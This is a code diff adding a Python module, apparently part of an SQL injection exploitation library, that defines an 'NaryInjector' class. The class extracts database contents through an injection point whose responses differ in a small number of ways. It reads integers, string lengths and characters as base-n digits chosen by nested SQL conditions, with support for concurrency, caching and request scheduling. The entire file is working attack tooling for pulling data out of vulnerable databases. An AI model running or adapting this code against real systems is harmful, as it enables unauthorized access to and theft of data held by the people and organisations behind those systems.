@@ -0,0 +1,201 @@
+from __future__ import annotations
+from collections.abc import Sequence
+from concurrent.futures import Executor
+from sqlinjectlib._metrics import Hook, phase
+from math import ceil, log2
+from typing import AsyncGenerator
+from sqlinjectlib._sqlinjectlib import InjectorFunction
+from sqlinjectlib._unioninject import UnionInjector
+from sqlinjectlib._blindinject import char_query, length_query
+from sqlinjectlib._databases import DatabaseType, MySQL
+from sqlinjectlib._cache import Cache
+from sqlinjectlib._encodings import Encoding
+from sqlinjectlib._scheduler import MAX_IN_FLIGHT, Scheduler, limit
+from sqlinjectlib._typedql import SQL
+from sqlinjectlib._utils import RECENT, wrap, single_flight, await_all
+
+
+class NaryInjector(UnionInjector):
+    """N-ary SQL injection
+
+    You have an n-ary SQL injection when you can inject an SQL query that returns an integer
+    in a small range and tell apart the responses for each value,
+    for example with different sort orders or row counts
+    """
+
+    def __init__(
+        self,
+        injector: InjectorFunction[SQL[int], int],
+        states: int,
+        /,
+        *,
+        concurrent: bool = False,
+        database_type: DatabaseType = MySQL(),
+        scheduler: Scheduler | None = None,
+        max_in_flight: int | None = MAX_IN_FLIGHT,
+        executor: Executor | None = None,
+        hooks: Sequence[Hook] = (),
+        cache: Cache | None = None,
+        pack: bool = False,
+        encoding: Encoding | None = None,
+    ):
+        """
+        - injector: function that given an integer query with a value in range(states) returns the value
+        - states: the number of responses that can be told apart
+        - concurrent: if the function can be called multiple times concurrently to speed up
+        - database_type: the type of the database you are injecting into
+        - scheduler: the scheduler that limits the requests sent with the injector, it can be shared
+        - max_in_flight: the most requests sent at the same time if concurrent and no scheduler is given,
+            None for no limit
+        - executor: the executor that runs the injector if it is not a coroutine function,
+            so that blocking injectors can run concurrently, None to run it in the event loop
+        - hooks: the functions called with the event of every call of the injector, like Metrics or Trace
+        - cache: the cache that keeps the results between sessions,
+            with it the recent results are also kept in memory
+        - pack: if all the columns of a row are read as a single value instead of a column at a time,
+            the columns are separated by a single character so that a row costs no more requests than its columns
+        - encoding: the encoding used to transport the values, None to extract them as text
+        - raises ValueError: if there are less than 2 states
+        """
+        if states < 2:
+            raise ValueError(f"At least 2 states are needed, found '{states}'")
+        self.__states = states
+        self.__digits = ceil(8 / log2(states))
+        self.__concurrent = concurrent
+        self.__injector = wrap(
+            injector,
+            limit(scheduler, concurrent, max_in_flight),
+            executor,
+            hooks,
+            "digit",
+            log2(states),
+        )
+        if cache is not None:
+            self.__injector = cache.wrap(self.__injector, "digit")
+        self.__injector = single_flight(
+            self.__injector, RECENT if cache is not None else 0
+        )
+        super().__init__(
+            self.__call,
+            concurrent=concurrent,
+            database_type=database_type,
+            max_in_flight=None,
+            cache=cache,
+            pack=pack,
+            separated=True,
+            encoding=encoding,
+        )
+
+    @property
+    def states(self) -> int:
+        """The number of responses that can be told apart"""
+        return self.__states
+
+    async def __digit(self, query: SQL[int]) -> int:
+        result = await self.__injector(query)
+        if not 0 <= result < self.__states:
+            raise ValueError(
+                f"The injector returned '{result}', expected a value in range({self.__states}), '{query}'"
+            )
+        return result
+
+    async def __search(self, query: SQL[int], start: int, end: bool) -> list[int]:
+        concurrent = [
+            self.__digit(
+                digit_query(self.database_type, query, self.__states, start + i)
+            )
+            for i in range(self.__digits)
+        ]
+        if end:
+            concurrent.append(
+                self.__digit(
+                    self.database_type.if_else(
+                        query < SQL.int(self.__states ** (start + self.__digits)),
+                        SQL.int(0),
+                        SQL.int(1),
+                    )
+                )
+            )
+        return await await_all(concurrent, self.__concurrent)
+
+    async def integer(self, query: SQL[int], /) -> int:
+        negative, result = await await_all(
+            [
+                self.__digit(
+                    self.database_type.if_else(
+                        query < SQL.int(0), SQL.int(1), SQL.int(0)
+                    )
+                ),
+                self.__integer(SQL.coalesce(SQL.abs(query) + SQL.int(1), SQL.int(0))),
+            ],
+            self.__concurrent,
+        )
+        if result == 0:
+            raise ValueError(f"Error getting an integer, found null, '{query}'")
+        return -(result - 1) if negative else result - 1
+
+    async def __integer(self, query: SQL[int]) -> int:
+        result = 0
+        start = 0
+        while True:
+            *digits, end = await self.__search(query, start, True)
+            for i, digit in enumerate(digits):
+                result += digit * self.__states ** (start + i)
+            if end == 0:
+                return result
+            start += self.__digits
+
+    async def __char(self, query: SQL[str], char_index: int) -> int:
+        digits = await self.__search(
+            char_query(self.database_type, query, char_index), 0, False
+        )
+        return sum(digit * self.__states**i for i, digit in enumerate(digits))
+
+    async def __call(self, query: SQL[str]) -> str | None:
+        with phase("length"):
+            length = await self.__integer(length_query(self.database_type, query))
+        if length == 0:
+            return None
+        chars = await await_all(
+            [self.__char(query, i) for i in range(length - 1)], self.__concurrent
+        )
+        return "".join(chr(char) for char in chars)
+
+    async def test(self) -> AsyncGenerator[tuple[str, bool], None]:
+        for state in range(self.__states):
+            yield (f"state {state}", await self.__injector(SQL.int(state)) == state)
+        yield (
+            "if",
+            await self.__injector(
+                self.database_type.if_else(
+                    SQL.int(1) < SQL.int(2), SQL.int(1), SQL.int(0)
+                )
+            )
+            == 1,
+        )
+        yield ("%", await self.__injector(SQL.int(7) % SQL.int(2)) == 1)
+        async for elem in super().test():
+            yield elem
+
+
+def digit_query(
+    database: DatabaseType, query: SQL[int], states: int, position: int
+) -> SQL[int]:
+    """The digit of the integer in the given position when written in base states
+
+    The digit is selected with a balanced tree of conditions to keep the query shallow
+    """
+    unit = states**position
+    remainder = query % SQL.int(unit * states)
+
+    def select(start: int, end: int) -> SQL[int]:
+        if end - start == 1:
+            return SQL.int(start)
+        middle = (start + end) // 2
+        return database.if_else(
+            remainder < SQL.int(middle * unit),
+            select(start, middle),
+            select(middle, end),
+        )
+
+    return select(0, states)